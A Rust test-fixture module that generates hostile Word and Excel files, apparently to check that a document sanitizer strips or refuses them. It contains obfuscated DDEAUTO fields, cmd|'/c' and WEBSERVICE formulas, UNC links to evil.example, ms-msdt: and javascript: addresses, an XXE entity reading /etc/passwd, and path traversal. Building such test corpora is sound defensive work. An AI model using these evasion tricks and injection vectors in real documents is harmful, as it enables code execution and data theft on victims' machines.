//! Office documents, made here with what must go out of them.

use crate::samples::{HARM, RawEntry, entry, zip};

const TYPES: &str = "application/vnd.openxmlformats-officedocument";
const RELATIONS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/// A document's parts: names, texts.
type Files = Vec<(String, Vec<u8>)>;

/// A relationship: id, last part of its type, target, whether outside.
type Relation<'a> = (&'a str, &'a str, &'a str, bool);

pub(crate) fn relations(list: &[Relation<'_>]) -> Vec<u8> {
    let rows = list.iter().map(|(id, kind, target, is_external)| {
        let mode = if *is_external { " TargetMode=\"External\"" } else { "" };
        format!("<Relationship Id=\"{id}\" Type=\"{RELATIONS}/{kind}\" Target=\"{target}\"{mode}/>")
    });
    let space = "http://schemas.openxmlformats.org/package/2006/relationships";
    format!(
        "<?xml version=\"1.0\"?><Relationships xmlns=\"{space}\">{}</Relationships>",
        rows.collect::<String>()
    )
    .into_bytes()
}

pub(crate) fn pack(files: &Files) -> Vec<u8> {
    let entries: Vec<RawEntry<'_>> = files.iter().map(|(name, data)| entry(name, data)).collect();
    zip(&entries)
}

/// A package with one main part, and what else is given.
pub(crate) fn package(
    main: &str,
    main_type: &str,
    body: &str,
    list: &[Relation<'_>],
    more: &[(&str, &str, &[u8])],
) -> Vec<u8> {
    let mut types = format!(
        "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" \
         ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Override PartName=\"/{main}\" ContentType=\"{main_type}\"/>"
    );
    for (name, kind, _) in more {
        types.push_str(&format!("<Override PartName=\"/{name}\" ContentType=\"{kind}\"/>"));
    }
    types.push_str("</Types>");
    let (folder, file) = main.rsplit_once('/').unwrap();
    let mut files: Files = vec![
        ("[Content_Types].xml".into(), types.into_bytes()),
        ("_rels/.rels".into(), relations(&[("rId1", "officeDocument", main, false)])),
        (main.into(), body.as_bytes().to_vec()),
        (format!("{folder}/_rels/{file}.rels"), relations(list)),
    ];
    files.extend(more.iter().map(|(name, _, data)| ((*name).to_owned(), data.to_vec())));
    pack(&files)
}

/// A Word document with this body.
pub(crate) fn word(body: &str, list: &[Relation<'_>], more: &[(&str, &str, &[u8])]) -> Vec<u8> {
    let xml = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" \
         xmlns:r=\"{RELATIONS}\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:v=\"urn:schemas-microsoft-com:vml\">\
         <w:body><w:p><w:r><w:t>金沢市の案内 &amp; 地図</w:t></w:r></w:p>{body}</w:body></w:document>"
    );
    package("word/document.xml", &format!("{TYPES}.wordprocessingml.document.main+xml"), &xml, list, more)
}

/// What a workbook with links to others has beside its sheets.
const LINKED: &str = "<externalReferences><externalReference r:id=\"rId9\"/></externalReferences><definedNames><definedName name=\"x\">[1]A!B1</definedName></definedNames>";

/// A workbook with one sheet of these rows.
pub(crate) fn sheet(rows: &str, list: &[Relation<'_>], more: &[(&str, &str, &[u8])]) -> Vec<u8> {
    let data = format!("<sheetData><row r=\"1\">{rows}</row></sheetData>");
    book(&["表"], LINKED, &data, list, more)
}

/// A workbook with sheets of these names, what else is in it, and what is in the first sheet.
pub(crate) fn book(
    names: &[&str],
    inside: &str,
    data: &str,
    list: &[Relation<'_>],
    more: &[(&str, &str, &[u8])],
) -> Vec<u8> {
    book_without(names, &[], inside, data, list, more)
}

/// The same, where relationships of these ids are not to sheets, but among the others.
pub(crate) fn book_without(
    names: &[&str],
    others: &[&str],
    inside: &str,
    data: &str,
    list: &[Relation<'_>],
    more: &[(&str, &str, &[u8])],
) -> Vec<u8> {
    let space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    let rows = names
        .iter()
        .zip(1..)
        .map(|(name, number)| format!("<sheet name=\"{name}\" sheetId=\"{number}\" r:id=\"rId{number}\"/>"));
    let book = format!(
        "<workbook xmlns=\"{space}\" xmlns:r=\"{RELATIONS}\"><sheets>{}</sheets>{inside}</workbook>",
        rows.collect::<String>()
    );
    let sheet = format!("<worksheet xmlns=\"{space}\" xmlns:r=\"{RELATIONS}\">{data}</worksheet>");
    let empty = format!("<worksheet xmlns=\"{space}\"><sheetData/></worksheet>");
    let files: Vec<(String, String)> = (1..=names.len())
        .map(|number| (format!("rId{number}"), format!("worksheets/sheet{number}.xml")))
        .filter(|(id, _)| !others.contains(&id.as_str()))
        .collect();
    let mut all: Vec<Relation<'_>> =
        files.iter().map(|(id, file)| (id.as_str(), "worksheet", file.as_str(), false)).collect();
    all.extend(list);
    let sheet_type = format!("{TYPES}.spreadsheetml.worksheet+xml");
    let paths: Vec<String> = files.iter().map(|(_, file)| format!("xl/{file}")).collect();
    let bodies = std::iter::once(sheet.as_bytes()).chain(std::iter::repeat(empty.as_bytes()));
    let mut parts: Vec<(&str, &str, &[u8])> =
        paths.iter().zip(bodies).map(|(path, body)| (path.as_str(), sheet_type.as_str(), body)).collect();
    parts.extend(more);
    package("xl/workbook.xml", &format!("{TYPES}.spreadsheetml.sheet.main+xml"), &book, &all, &parts)
}

/// A Word document whose part of this kind has this inside.
pub(crate) fn word_with(kind: &str, body: &str, inside: &str) -> Vec<u8> {
    let part = format!("<w:{kind} {SPACES}>{inside}</w:{kind}>");
    let content_type = format!("{TYPES}.wordprocessingml.{kind}+xml");
    let name = format!("{kind}.xml");
    word(body, &[("rId5", kind, &name, false)], &[(&format!("word/{name}"), &content_type, part.as_bytes())])
}

/// Spaces of names of a part of Word's.
pub(crate) const SPACES: &str = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" \
    xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" xmlns:v=\"urn:schemas-microsoft-com:vml\" \
    xmlns:w15=\"http://schemas.microsoft.com/office/word/2012/wordml\" xmlns:s=\"http://schemas.microsoft.com/nobody\" \
    xmlns:sl=\"http://schemas.openxmlformats.org/schemaLibrary/2006/main\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" \
    mc:Ignorable=\"s w15\"";

/// Hostile documents: a name, the file, whether it must be refused whole.
pub(crate) fn all() -> Vec<(String, Vec<u8>, bool)> {
    let mut samples: Vec<(String, Vec<u8>, bool)> = Vec::new();
    let harm = std::str::from_utf8(HARM).unwrap();
    let mut add = |name: &str, bytes, refused| samples.push((format!("office: {name}"), bytes, refused));
    let parts: [(&str, &str); 12] = [
        ("vbaProject", "application/vnd.ms-office.vbaProject"),
        ("oleObject", "application/vnd.openxmlformats-officedocument.oleObject"),
        ("package", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("control", "application/vnd.ms-office.activeX+xml"),
        ("aFChunk", "text/html"),
        ("customXml", "application/xml"),
        ("font", "application/x-fontdata"),
        ("video", "video/mp4"),
        ("xlMacrosheet", "application/vnd.ms-excel.macrosheet+xml"),
        ("settings", "application/octet-stream"),
        ("image", "image/x-emf"),
        ("tomorrow", "application/vnd.openxmlformats-officedocument.tomorrow+xml"),
    ];
    for (kind, content_type) in parts {
        let body = "<w:p><w:r><w:object><v:shape/><o:OLEObject r:id=\"rId5\"/></w:object></w:r></w:p>";
        let relation = [("rId5", kind, "odd/part.bin", false)];
        add(kind, word(body, &relation, &[("word/odd/part.bin", content_type, HARM)]), false);
    }
    for kind in
        ["attachedTemplate", "image", "oleObject", "hyperlink", "subDocument", "externalLink", "frame"]
    {
        for address in [
            format!("file:///c:/{harm}"),
            format!("\\\\{harm}\\x"),
            format!("javascript:{harm}"),
            format!("mhtml:http://{harm}"),
            format!("https://city.example.jp@{harm}/"),
        ] {
            let relation = [("rId5", kind, address.as_str(), true)];
            add(&format!("{kind} outside: {address}"), word("<w:p r:id=\"rId5\"/>", &relation, &[]), false);
        }
    }
    for code in
        ["DDEAUTO", "dde", "INCLUDEPICTURE", "INCLUDETEXT", "LINK", "IMPORT", "DATABASE", "MACROBUTTON"]
    {
        let field = |step: &str| format!("<w:r><w:fldChar w:fldCharType=\"{step}\"/></w:r>");
        let (half, rest) = code.split_at(code.len() / 2);
        let text = |text: &str| format!("<w:r><w:instrText>{text}</w:instrText></w:r>");
        let long = [
            field("begin"),
            text(half),
            text(rest),
            text(&format!(" {harm}")),
            field("separate"),
            field("end"),
        ]
        .concat();
        add(&format!("field {code}"), word(&format!("<w:p>{long}</w:p>"), &[], &[]), false);
        let short = format!("<w:p><w:fldSimple w:instr=\" {code} {harm}\"><w:r/></w:fldSimple></w:p>");
        add(&format!("short field {code}"), word(&short, &[], &[]), false);
    }
    // What Word passes over says nothing of what it reads, and no part of a code is passed over here.
    let other = "xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" xmlns:x=\"urn:nobody\" mc:Ignorable=\"x\"";
    let run = |inside: &str| format!("<w:r>{inside}</w:r>");
    let sign = |step: &str| run(&format!("<w:fldChar w:fldCharType=\"{step}\"/>"));
    let code = |code: &str| run(&format!("<w:instrText>{code}</w:instrText>"));
    let dde = format!("DDEAUTO {harm}");
    for (name, inside) in [
        ("a code before it of another space", run("<x:instrText>PAGE </x:instrText>") + &code(&dde)),
        ("a sign of another space", run("<x:fldChar x:fldCharType=\"separate\"/>") + &code(&dde)),
        (
            "a sign's other attribute",
            run("<w:fldChar x:fldCharType=\"separate\" w:fldCharType=\"x\"/>") + &code(&dde),
        ),
        ("a name before it", code("PAGE ") + &code(&dde)),
        ("a text before it", code("TITLE ") + &code(&dde)),
        ("its letters as text", run("<w:t>DDEAUTO </w:t>") + &code(harm)),
        ("a deleted name before it", run("<w:delInstrText>TITLE </w:delInstrText>") + &code(&dde)),
        (
            "one of alternatives",
            format!(
                "<mc:AlternateContent><mc:Choice Requires=\"x\">{}</mc:Choice></mc:AlternateContent>{}",
                code("TITLE "),
                code(harm)
            ),
        ),
        ("a link with another place", code(&format!("HYPERLINK \\l \"a\" \"\\\\{harm}\\x.exe\""))),
    ] {
        let field = sign("begin") + &inside + &sign("separate") + &run("<w:t>1</w:t>") + &sign("end");
        add(&format!("field: {name}"), word(&format!("<w:p {other}>{field}</w:p>"), &[], &[]), false);
    }
    for attributes in [format!("x:instr=\"PAGE\" w:instr=\"{dde}\""), format!("w:instr=\"PAGE {dde}\"")] {
        let body = format!("<w:p {other}><w:fldSimple {attributes}><w:r/></w:fldSimple></w:p>");
        add(&format!("short field: {attributes}"), word(&body, &[], &[]), false);
    }
    // Quotes around it that Word passes over, or that go out of the new part.
    let quote = code("TITLE \"");
    let strict = "xmlns:q=\"http://purl.oclc.org/ooxml/wordprocessingml/main\"";
    for (begin, end) in [
        ("<s:x>", "</s:x>"),
        ("<w15:x>", "</w15:x>"),
        ("<x:y>", "</x:y>"),
        ("<w:moveFrom>", "</w:moveFrom>"),
        ("<w:del>", "</w:del>"),
        ("<w:ins>", "</w:ins>"),
        ("<w:pPr>", "</w:pPr>"),
        ("<w:tomorrow>", "</w:tomorrow>"),
        ("<w:customXml>", "</w:customXml>"),
        ("<w:p r:id=\"rIdGone\">", "</w:p>"),
        ("<w:r><w:object><o:OLEObject>", "</o:OLEObject></w:object></w:r>"),
        ("<w:r><w:pict><v:textbox><w:txbxContent><w:p>", "</w:p></w:txbxContent></v:textbox></w:pict></w:r>"),
        ("<mc:AlternateContent><mc:Choice Requires=\"s\">", "</mc:Choice></mc:AlternateContent>"),
    ] {
        let gone = [("rIdGone", "oleObject", "x.bin", true)];
        for call in ["DDEAUTO", "ADDIN"] {
            let call = code(&format!("{call} {harm}"));
            let inside = format!("{begin}{quote}{end}{call}{begin}{}{end}", code("\""));
            let field = sign("begin") + &inside + &sign("separate") + &run("<w:t>1</w:t>") + &sign("end");
            let body = format!("<w:p {SPACES} xmlns:x=\"urn:nobody\">{field}</w:p>");
            // Nothing hides there: a name that is known to call is all that is looked for.
            if begin != "<w:customXml>" || call.contains("DDEAUTO") {
                add(&format!("field: quotes in {begin}: {call}"), word(&body, &gone, &[]), false);
            }
        }
    }
    let runs = |text: &str| format!("<w:r><q:instrText {strict}>{text}</q:instrText></w:r>");
    let inside = runs("TITLE \"") + &code(&dde) + &runs("\"");
    let field = sign("begin") + &inside + &sign("separate") + &sign("end");
    add("field: quotes in Word's other space", word(&format!("<w:p>{field}</w:p>"), &[], &[]), false);
    // A field in a field's code, whose result becomes code when it goes.
    let inner = sign("begin") + &code(&dde) + &sign("separate") + &run("<w:t>\"</w:t>") + &sign("end");
    let field = sign("begin")
        + &code("EQ \"")
        + &inner
        + &code(&(dde.clone() + "\""))
        + &sign("separate")
        + &sign("end");
    add("field: a field in its code", word(&format!("<w:p>{field}</w:p>"), &[], &[]), false);
    add(
        "field: no end",
        word(&format!("<w:p>{}{}</w:p>", sign("begin"), code(&format!("TITLE {harm}"))), &[], &[]),
        false,
    );
    for (kind, inside) in [
        (
            "settings",
            "<sl:schemaLibrary><sl:schema sl:uri=\"urn:x\" sl:manifestLocation=\"http://{}\" sl:schemaLocation=\"\\{}\"/></sl:schemaLibrary>",
        ),
        ("settings", "<w:smartTagType w:namespaceuri=\"urn:x\" w:name=\"x\" w:url=\"http://{}\"/>"),
        ("settings", "<w:mailMerge><w:query w:val=\"{}\"/></w:mailMerge>"),
        (
            "header",
            "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"><w:ffData><w:entryMacro w:val=\"{}\"/><w:exitMacro w:val=\"{}\"/></w:ffData></w:fldChar><w:instrText>FORMTEXT</w:instrText><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
        ),
        (
            "header",
            "<w:p><w:r><w:pict><v:shape o:gfxdata=\"{}\" equationxml=\"{}\"><w:binData>{}</w:binData></v:shape></w:pict></w:r></w:p>",
        ),
        ("header", "<w:p><s:x>{}</s:x></w:p>"),
        (
            "header",
            "<w:customXml w:uri=\"http://{}/x\" w:element=\"x\"><w:p><w:smartTag w:uri=\"\\\\{}\\x\" w:element=\"y\"><w:r/></w:smartTag></w:p></w:customXml>",
        ),
        ("settings", "<w:attachedSchema w:val=\"file://{}\"/>"),
    ] {
        add(&format!("{kind}: {inside}"), word_with(kind, "", &inside.replace("{}", harm)), false);
    }
    for place in ["[\\{}\\a.xlsx]S!A1", "\\{}\\a", "file:///{}", "x://{}"] {
        let place = place.replace("{}", harm);
        let link = format!("<hyperlinks><hyperlink ref=\"A1\" location=\"{place}\"/></hyperlinks>");
        add(&format!("a place that is elsewhere: {place}"), book(&["表"], "", &link, &[], &[]), false);
        let inner = format!("#{place}");
        let link = "<w:p><w:hyperlink r:id=\"rId5\"><w:r/></w:hyperlink></w:p>";
        let list = [("rId5", "hyperlink", inner.as_str(), false)];
        add(&format!("a relationship to {inner}"), word(link, &list, &[]), false);
    }
    let name = |formula: &str| {
        format!("<definedNames><definedName name=\"x\">{formula}</definedName></definedNames>")
    };
    let sheets = "<sheets><sheet name=\"a|b\" r:id=\"rId1\"/></sheets>";
    for inside in [
        name("FILES(&quot;\\{}\\*&quot;)"),
        name("HYPERLINK(&quot;#[\\{}\\a.xlsx]S!A1&quot;)"),
        name("'a|{}'!A1"),
        // A sheet of nobody's, and one that has no part.
        format!("<x:b xmlns:x=\"urn:nobody\">{sheets}</x:b>{}", name("'a|b'!A1&amp;\"{}\"")),
        format!("{}{}", sheets.replace("rId1", "rId9"), name("'a|b'!A1&amp;\"{}\"")),
        "<webPublishObjects><webPublishObject divId=\"x\" destinationFile=\"\\{}\" autoRepublish=\"1\"/></webPublishObjects>".to_owned(),
        // Letters of nobody's in a formula would make another one by their going.
        name("A1&amp;\"<x:y>\"&amp;</x:y>x\"&amp;WEBSERVICE(B1)&amp;\"{}<x:y>\"</x:y>\"").replace("<x:y>", "<x:y xmlns:x=\"urn:nobody\">"),
        "<worksheetSource sheet=\"[\\{}\\a.xlsx]S\" ref=\"A1:B2\"/>".to_owned(),
    ] {
        let inside = inside.replace("{}", harm);
        add(&format!("a workbook with {inside}"), book(&["表"], &inside, "<sheetData/>", &[], &[]), false);
    }
    for address in ["//", "\\", "C:\\", "ms-msdt:/id ", "javascript:", "mk:", "x/"] {
        let body = format!("<w:p><w:r><w:pict><v:shape href=\"{address}{harm}\"/></w:pict></w:r></w:p>");
        add(&format!("a shape's address: {address}"), word(&body, &[], &[]), false);
    }
    let quoted = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>".repeat(2)
        + &format!(
            "<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:instrText> {harm}</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
        );
    add("a field made by a field", word(&format!("<w:p>{quoted}</w:p>"), &[], &[]), false);
    for formula in [
        format!("cmd|'/c {harm}'!A0"),
        format!("[1]{harm}!A1"),
        format!("WEBSERVICE(\"{harm}\")"),
        format!("CALL(\"{harm}\")"),
        format!("'\\\\evil.example\\{harm}\\[a.xlsx]S'!A1"),
        format!("'http://{harm}/[a.xlsx]S'!A1"),
        format!("_xlfn.WEBSERVICE (\"{harm}\")"),
        format!("IF('a\"b'!A1,cmd|'/c {harm}'!A0,\"x\")"),
        format!("HYPERLINK(\"\\\"&amp;\"\\{harm}\")"),
    ] {
        let formula = formula.replace('"', "&quot;");
        add(
            &format!("formula {formula}"),
            sheet(&format!("<c r=\"A1\"><f>{formula}</f><v>1</v></c>"), &[], &[]),
            false,
        );
    }
    let dtd = "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b SYSTEM \"file:///etc/passwd\">]><x>&b;</x>";
    let theme = [("rId5", "theme", "theme.xml", false)];
    let theme_type = format!("{TYPES}.theme+xml");
    add("a DTD", word("", &theme, &[("word/theme.xml", &theme_type, dtd.as_bytes())]), true);
    add("an entity", word("", &theme, &[("word/theme.xml", &theme_type, b"<x>&b;</x>")]), true);
    add(
        "deep XML",
        word("", &theme, &[("word/theme.xml", &theme_type, "<x>".repeat(100_000).as_bytes())]),
        true,
    );
    add("broken XML", word("", &theme, &[("word/theme.xml", &theme_type, b"<x><y></x>")]), true);
    add("a part from outside", word("", &[("rId5", "theme", "../../../etc/passwd", false)], &[]), false);
    add(
        "no main part",
        pack(&vec![
            ("[Content_Types].xml".into(), b"<Types/>".to_vec()),
            ("_rels/.rels".into(), relations(&[])),
        ]),
        true,
    );
    samples
}
